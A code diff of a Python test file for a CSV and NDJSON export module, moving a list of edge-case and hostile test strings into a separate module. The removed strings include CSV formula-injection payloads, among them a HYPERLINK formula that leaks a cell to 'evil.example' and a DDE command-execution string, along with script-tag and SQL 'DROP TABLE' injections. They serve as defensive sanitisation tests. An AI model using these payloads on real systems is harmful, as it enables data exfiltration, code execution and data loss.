@@ -17,51 +17,12 @@ from hypothesis import strategies as st
 
 from sealtrail.export import CSV_COLUMNS, csv_chunks, ndjson_chunks, neutralise_cell
 
+from .naughty import NAUGHTY
+
 VECTORS = Path(__file__).resolve().parents[1].parent / "shared" / "vectors"
 OWASP_FILE = VECTORS / "csv-injection" / "owasp-csv-injection.json"
 DANGEROUS = frozenset("=+-@\t\r\n\x00")
 
-NAUGHTY = [
-    "",
-    " ",
-    "'",
-    "''",
-    "'=1+2",
-    "=1+2",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+1",
-    "-1",
-    "-",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "\x00=1",
-    "\x00",
-    'she said "hi"',
-    '"',
-    '""',
-    '","',
-    "a,b;c\td",
-    "line1\nline2",
-    "line1\r\nline2",
-    "cr only\r",
-    "\r\n",
-    "trailing space ",
-    "\ufeffBOM at start",
-    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈 😀",
-    "RTL \u202emarks\u202c \u200f\u200e مرحبا שלום",
-    "zero\u200bwidth\u2060joiner",
-    "combining A\u030a e\u0301",
-    "line sep\u2028para sep\u2029nel\x85",
-    "control \x01\x07\x1b[31m\x7f",
-    "Ω≈ç√∫˜µ≤≥÷ 田中さんにあげて下さい 𝕿𝖍𝖊 𝓺𝓾𝓲𝓬𝓴",
-    "<script>alert(1)</script>",
-    "'; DROP TABLE events; --",
-    "{0.__class__} {} %s ${x}",
-    "\\\\ \\n \\u0000",
-    "x" * 10_000,
-]
 
 STRING_FIELDS = [
     ("id",),
